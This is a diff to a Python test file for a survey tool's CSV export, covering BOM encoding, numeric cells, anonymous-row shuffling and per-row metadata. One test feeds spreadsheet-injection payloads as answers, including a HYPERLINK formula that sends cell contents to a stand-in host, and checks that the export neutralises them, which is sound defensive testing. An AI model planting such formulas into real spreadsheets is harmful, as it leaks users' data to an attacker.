@@ -4,10 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
-import random
 from pathlib import Path
 
-from bot.export import csv_of
+from bot.export import csv_of, shuffled
 from conversations.checks import read_survey
 from storage.records import AnswerRow, ResponseRow
 
@@ -19,27 +18,35 @@ def survey(name: str):
     return read_survey(path.read_text(encoding="utf-8"), source=str(path)).survey
 
 
-def table(data: bytes) -> list[list[str]]:
+def table(exported: tuple[bytes, int]) -> list[list[str]]:
+    data, _ = exported
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+
+
+def rows(responses: list[ResponseRow], answers: list[AnswerRow]):
+    """Responses with their answers, as Storage.export hands them to the CSV."""
+    return [(r, [a for a in answers if a.response_id == r.id]) for r in responses]
 
 
 def test_a_formula_typed_as_an_answer_is_text_in_a_spreadsheet() -> None:
     attacks = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-3+cmd", "@SUM(A1)"]
     attacks += ["\tTAB", "\rCR"]
     library = survey("library-services")
-    rows = [ResponseRow(n, "completed", None) for n in range(1, len(attacks) + 1)]
+    responses = [ResponseRow(n, "completed", None) for n in range(1, len(attacks) + 1)]
     answers = [AnswerRow(n, "improve", text) for n, text in enumerate(attacks, start=1)]
-    header, *exported = table(csv_of(library, rows, answers))
+    header, *exported = table(csv_of(library, rows(responses, answers)))
     cells = [row[header.index("improve")] for row in exported]
     assert cells == ["'" + text for text in attacks]
 
 
 def test_the_file_opens_with_a_byte_order_mark_and_keeps_nordic_letters() -> None:
     library = survey("library-services")
-    data = csv_of(
+    data, _ = csv_of(
         library,
-        [ResponseRow(1, "completed", None)],
-        [AnswerRow(1, "improve", "Enemmän äänikirjoja, så")],
+        rows(
+            [ResponseRow(1, "completed", None)],
+            [AnswerRow(1, "improve", "Enemmän äänikirjoja, så")],
+        ),
     )
     assert data.startswith(b"\xef\xbb\xbf")
     assert "Enemmän äänikirjoja, så" in data.decode("utf-8-sig")
@@ -48,21 +55,33 @@ def test_the_file_opens_with_a_byte_order_mark_and_keeps_nordic_letters() -> Non
 def test_numbers_stay_numbers() -> None:
     library = survey("library-services")
     data = table(
-        csv_of(library, [ResponseRow(1, "completed", None)], [AnswerRow(1, "satisfaction", 4)])
+        csv_of(
+            library, rows([ResponseRow(1, "completed", None)], [AnswerRow(1, "satisfaction", 4)])
+        )
     )
     assert data[1][data[0].index("satisfaction")] == "4"
 
 
-def test_anonymous_rows_follow_neither_invitations_nor_response_ids() -> None:
+def test_anonymous_rows_are_numbered_as_they_come_not_by_response_id() -> None:
     home_care = survey("home-care")
     assert home_care.anonymous
-    responses = [ResponseRow(rid, "completed", 3600.0) for rid in (11, 12, 13, 14, 15)]
-    answers = [AnswerRow(rid, "visits_per_week", rid) for rid in (11, 12, 13, 14, 15)]
-    header, *rows = table(csv_of(home_care, responses, answers, shuffle=random.Random(3)))
+    order = (13, 11, 15, 12, 14)  # as Storage.export's shuffle handed them over
+    responses = [ResponseRow(rid, "completed", 3600.0) for rid in order]
+    answers = [AnswerRow(rid, "visits_per_week", rid) for rid in order]
+    header, *exported = table(csv_of(home_care, rows(responses, answers)))
     column = header.index("visits_per_week")
-    assert [row[0] for row in rows] == ["1", "2", "3", "4", "5"]  # numbered anew
-    assert [row[column] for row in rows] != ["11", "12", "13", "14", "15"]  # and reordered
-    assert sorted(row[column] for row in rows) == ["11", "12", "13", "14", "15"]
+    assert [row[0] for row in exported] == ["1", "2", "3", "4", "5"]  # numbered anew
+    assert [row[column] for row in exported] == ["13", "11", "15", "12", "14"]
+
+
+def test_an_anonymous_export_is_shuffled_anew_each_time() -> None:
+    ids = list(range(1, 101))
+    first, second = ids.copy(), ids.copy()
+    shuffled(first)
+    shuffled(second)
+    assert sorted(first) == ids
+    assert first != ids
+    assert first != second
 
 
 def test_each_row_says_its_language_channel_completeness_and_who_typed_it() -> None:
@@ -76,7 +95,7 @@ def test_each_row_says_its_language_channel_completeness_and_who_typed_it() -> N
         AnswerRow(1, "improve", None, "intermediary"),
         AnswerRow(2, "visits", "monthly"),
     ]
-    header, first, second = table(csv_of(library, responses, answers))
+    header, first, second = table(csv_of(library, rows(responses, answers)))
     row = dict(zip(header, first, strict=True))
     assert (row["complete"], row["language"], row["channel"], row["given_by"]) == (
         "completed",
